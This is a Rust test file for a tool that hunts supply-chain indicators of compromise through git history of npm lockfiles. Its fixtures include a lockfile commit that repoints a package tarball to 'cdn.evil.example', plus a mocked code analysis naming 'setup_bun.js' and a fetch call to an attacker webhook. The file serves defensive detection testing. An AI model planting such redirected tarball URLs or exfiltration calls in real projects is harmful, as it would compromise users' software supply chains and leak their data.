//! Indicator hunting through history: a host in a tampered `resolved` URL, a tarball hash in
//! the integrity field, and a file name found only in a cached code analysis.

mod support;

use diligence_graph::Integrity;
use diligence_hunt::ioc::{AnalysisCache, Indicator, TarballFacts, parse_line};
use diligence_hunt::report::HuntReport;
use diligence_hunt::{HuntOptions, HuntQuery};
use diligence_testkit::git::FixtureRepo;
use support::*;

/// c1 clean (debug 2.6.9) · c2 Mallory repoints debug@2.6.9's tarball at evil.example ·
/// c3 Alice reverts it.
fn tampered() -> (tempfile::TempDir, FixtureRepo, Vec<String>) {
    let dir = tempfile::tempdir().unwrap();
    let repo = FixtureRepo::init(dir.path());
    let clean = app_lock("2.6.9");
    let mut c = Vec::new();
    repo.write("package-lock.json", &clean);
    c.push(repo.commit(ALICE, "2025-04-01T08:00:00", "lock"));
    repo.write(
        "package-lock.json",
        clean.replace(
            "https://registry.npmjs.org/debug/-/debug-2.6.9.tgz",
            "https://cdn.evil.example/debug-2.6.9.tgz",
        ),
    );
    c.push(repo.commit(MALLORY, "2025-04-02T08:00:00", "chore: tidy lockfile"));
    repo.write("package-lock.json", &clean);
    c.push(repo.commit(ALICE, "2025-04-03T08:00:00", "revert tidy"));
    (dir, repo, c)
}

fn run(
    repo: &FixtureRepo,
    indicators: Vec<Indicator>,
    analyses: Option<&dyn AnalysisCache>,
) -> HuntReport {
    let query = HuntQuery {
        specs: Vec::new(),
        indicators,
    };
    let options = HuntOptions {
        analyses,
        ..Default::default()
    };
    diligence_hunt::hunt(std::slice::from_ref(&repo.dir), &query, &options)
}

#[test]
fn a_host_in_a_tampered_resolved_url_is_found_for_exactly_its_commits() {
    let (_d, repo, c) = tampered();
    let report = run(&repo, vec![parse_line("evil.example").unwrap()], None);
    let r = &report.repositories[0];
    assert_eq!(r.matches.len(), 1);
    let m = &r.matches[0];
    assert_eq!(
        format!("{}@{}", m.package.name, m.package.version),
        "debug@2.6.9"
    );
    assert_eq!(m.matched_by.kind, "indicator");
    assert_eq!(m.matched_by.indicator, Some("host"));
    assert_eq!(m.matched_by.field, "resolved");
    assert_eq!(m.matched_by.label(), "host evil.example in resolved");
    assert_eq!(m.first.id, c[1]);
    assert_eq!(m.first.author, "Mallory");
    assert_eq!(m.commits, 1);
    let ev: Vec<(&str, &str)> = m
        .events
        .iter()
        .map(|e| (e.event, e.commit.id.as_str()))
        .collect();
    assert_eq!(
        ev,
        vec![("introduced", c[1].as_str()), ("removed", c[2].as_str())]
    );
    assert_eq!(m.resolved, vec!["https://cdn.evil.example/debug-2.6.9.tgz"]);
    assert!(m.still_in.is_empty());
    // Without a code-scan cache, content indicators are lockfile-only, and the report says so.
    assert_eq!(
        r.not_checked,
        vec![
            "tarball contents: no code-scan cache, so host, URL and file-name indicators were matched against lockfiles only"
        ]
    );
    assert_eq!(report.exit_code(), 1);
}

#[test]
fn a_tarball_hash_matches_integrity_in_every_commit_that_locks_it() {
    let (_d, repo, c) = tampered();
    // The fixture's sha512 for debug@2.6.9, given as hex.
    let sri = sri("debug", "2.6.9");
    let Integrity::Sri(hashes) = Integrity::parse_sri(&sri).unwrap() else {
        unreachable!()
    };
    let hex: String = hashes[0]
        .digest
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let report = run(&repo, vec![parse_line(&hex).unwrap()], None);
    let r = &report.repositories[0];
    let m = &r.matches[0];
    assert_eq!(m.matched_by.indicator, Some("hash"));
    assert_eq!(m.matched_by.field, "integrity");
    assert_eq!(m.matched_by.value, sri);
    assert_eq!(m.first.id, c[0]);
    assert_eq!(m.commits, 3);
    assert_eq!(
        m.still_in
            .iter()
            .map(|s| s.name.as_str())
            .collect::<Vec<_>>(),
        vec!["HEAD", "refs/heads/main"]
    );
    assert_eq!(
        r.not_checked,
        vec![
            "file hashes inside tarballs: cached analyses keep none, so hash indicators were matched against lockfile integrity (whole tarballs) only"
        ]
    );
}

/// A cache that knows one tarball: express@4.18.2's, whose analysis names `lib/setup_bun.js`
/// and a request to `webhook.evil.example`.
struct OneAnalysis;

impl AnalysisCache for OneAnalysis {
    fn lookup(&self, name: &str, version: &str, integrity: &Integrity) -> Option<TarballFacts> {
        let want = Integrity::parse_sri(&sri("express", "4.18.2")).unwrap();
        (name == "express" && version == "4.18.2" && integrity.matches(&want)).then(|| {
            TarballFacts {
                files: vec!["lib/setup_bun.js".into(), "index.js".into()],
                texts: vec!["fetch(\"https://webhook.evil.example/collect\")".into()],
            }
        })
    }
}

#[test]
fn cached_code_analyses_are_searched_and_coverage_is_reported() {
    let (_d, repo, c) = tampered();
    let report = run(
        &repo,
        vec![
            parse_line("setup_bun.js").unwrap(),
            parse_line("host:webhook.evil.example").unwrap(),
        ],
        Some(&OneAnalysis),
    );
    let r = &report.repositories[0];
    let found: Vec<(String, String, &str)> = r
        .matches
        .iter()
        .map(|m| {
            (
                format!("{}@{}", m.package.name, m.package.version),
                m.matched_by.label(),
                m.first.id.as_str(),
            )
        })
        .collect();
    assert_eq!(
        found,
        vec![
            (
                "express@4.18.2".into(),
                "file setup_bun.js in code-analysis".into(),
                c[0].as_str()
            ),
            (
                "express@4.18.2".into(),
                "host webhook.evil.example in code-analysis".into(),
                c[0].as_str()
            ),
        ]
    );
    // express and debug are looked up once each (by integrity), across all three commits.
    assert_eq!((r.stats.analyses_looked_up, r.stats.analyses_found), (2, 1));
    assert_eq!(
        r.not_checked,
        vec![
            "tarball contents: 1 of 2 locked tarballs have no cached code analysis (run `diligence audit` on a checkout to fill the cache); their contents were not checked for host, URL and file-name indicators"
        ]
    );
}
